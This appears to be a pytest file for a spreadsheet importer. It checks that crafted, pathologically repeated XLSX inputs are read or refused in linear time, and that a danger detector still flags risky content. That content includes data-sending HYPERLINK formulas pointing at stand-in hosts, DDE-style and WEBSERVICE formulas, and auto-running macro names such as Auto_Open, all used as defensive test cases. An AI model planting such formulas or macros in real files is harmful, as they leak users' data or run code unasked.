"""Texts that make a pattern try again and again: time grows with their length, not with its square."""

import time

import pytest

from tests.hostile_files import ROWS, beside, cell, parts, text_cell, worksheet, zipped
from workbook import dangers
from workbook.errors import FileRefused
from workbook.foreign import read_foreign
from workbook.refusals import REASONS
from workbook.trimming import GAP_COLUMNS

LETTERS = 300_000
SECONDS = 3.0
"""Of the processor. Squares take minutes at this length."""


def again(piece: str, letters: int = LETTERS) -> str:
    return piece * (letters // len(piece))


def formulas(text: str, count: int = 60) -> bytes:
    """Many formulas, as long as Excel allows."""
    rows = (f'<row r="{row}"><c r="E{row}"><f>{text[:8000]}</f><v></v></c></row>' for row in range(3, 3 + count))
    return worksheet(ROWS + "".join(rows))


def with_stray(cells: str) -> bytes:
    far = text_cell(f"{'ABC'[0] * 3}2", "远")  # column 703
    assert GAP_COLUMNS < 700
    return worksheet(ROWS.replace("</row>", f"{far}</row>", 1) + f'<row r="3">{cells}</row>')


SHEETS = {
    "link": formulas('HYPERLINK("#' + again('","', 8000)),
    "sends": formulas(again("HYPERLINK(", 8000)),
    "sends_quotes": formulas(again('HYPERLINK("', 8000)),
    "dde": formulas(again("a|", 8000)),
    "array": beside(f'<c r="B3"><f {again(chr(32) + chr(116) + "=" + chr(34) + "array" + chr(34))}>1</f><v>1</v></c>'),
    "error": beside(f'<c t="e" {again("r=" + chr(34) + "B3" + chr(34) + " ")}'),
    "error_value": beside(f'<c t="e" {again("r=" + chr(34) + "B3" + chr(34) + " ")}><v>#N/A</v></c>'),
    "formula_tags": beside(again("<f ")),
    "link_tags": worksheet(tail=again("<hyperlink ")),
    "cell_tags": beside(again("<c ")),
    "unclosed": with_stray("".join(f'<c r="{chr(65 + n // 26 % 26)}{chr(65 + n % 26)}{3}">' for n in range(600)) + again("x")),
    "blanks": beside(f'<c r="B3">{again(" ")}<v>1</v></c>'),
    "blanks_in_tag": beside(f'<c {again(" ")}r="B3"><v>1</v></c>'),
    "letters": beside(f'<c {again("r=" + chr(34) + "AAAA")}'),
    "row_tags": worksheet(ROWS + again("<row ")),
    "shared": beside(f'<c {again("t=" + chr(34) + "s" + chr(34) + " ")}r="B3"><v>x</v></c>'),
    "open_formulas": beside(again('<c r="B3"><f>')),
    "text": beside(cell("B3", f"<is><t>{again('=')}</t></is>", ' t="inlineStr"')),
    "text_signs": beside(cell("B3", f"<is><t>{again('-1')}</t></is>", ' t="inlineStr"')),
    "text_percent": beside(cell("B3", f"<is><t>{again('%0A')}</t></is>", ' t="inlineStr"')),
    "merges": worksheet(tail=f"<mergeCells>{again('<mergeCell ref')}</mergeCells>"),
}  # fmt: skip


@pytest.mark.parametrize("name", SHEETS)
def test_a_sheet_is_read_or_refused_in_time(name: str) -> None:
    content = parts(sheet=SHEETS[name])
    long = "长" * 2000  # so that the texts that cells share are counted
    content["xl/sharedStrings.xml"] = f'<sst xmlns="x"><si><t>{long}</t></si></sst>'.encode()
    began, code = time.process_time(), ""
    try:
        read_foreign(zipped(content), "名单.xlsx", hidden=True)
    except FileRefused as refusal:
        code = refusal.code
    assert not code or code in REASONS
    assert time.process_time() - began < SECONDS


@pytest.mark.parametrize(
    "text", ["HYPERLINK(", 'HYPERLINK("', "=a|", "a|", "&a|x", '"', "WEBSERVICE", "_xlfn.", "(", "'"]
)
def test_a_formula_is_judged_in_time(text: str) -> None:
    began = time.process_time()
    for _ in range(30):
        dangers.call_in(again(text, 100_000))
    assert time.process_time() - began < SECONDS


def test_a_formula_that_sends_is_still_found() -> None:
    for formula in (
        'HYPERLINK("http://x/?"&A1,"x")',
        'IF(1,HYPERLINK(A1&"//x"),2)',
        'HYPERLINK("#a","b")&HYPERLINK(B1&"ftp://x")',
    ):
        assert dangers.call_in(formula) == ("WEB_FORMULA", "HYPERLINK")
    for formula in ('HYPERLINK("http://x","y")', 'HYPERLINK("#"&A1,"y")', "HYPERLINK(A1)", '"http://x"&HYPERLINK(A1)'):
        assert dangers.call_in(formula) is None


@pytest.mark.parametrize("line", ["Public\n", "Public _\n", "Sub _\n", "Sub\n", " \t", "Private Sub ", "_\n"])
def test_macros_that_run_by_themselves_are_looked_for_in_time(line: str) -> None:
    began = time.process_time()
    assert not dangers.AUTO_MACRO.search(again(line))
    assert time.process_time() - began < SECONDS


@pytest.mark.parametrize(
    "text",
    [
        "Sub Auto_Open()",
        "  private\tsub workbook_open()",
        "Public Static Function _\n  AutoExec()",
        "x\nSub _\n_\n AutoClose",
    ],
)
def test_a_macro_that_runs_by_itself_is_found_however_it_is_written(text: str) -> None:
    assert dangers.AUTO_MACRO.search(text)
    assert not dangers.AUTO_MACRO.search(f"' {text}".replace("\n", " "))
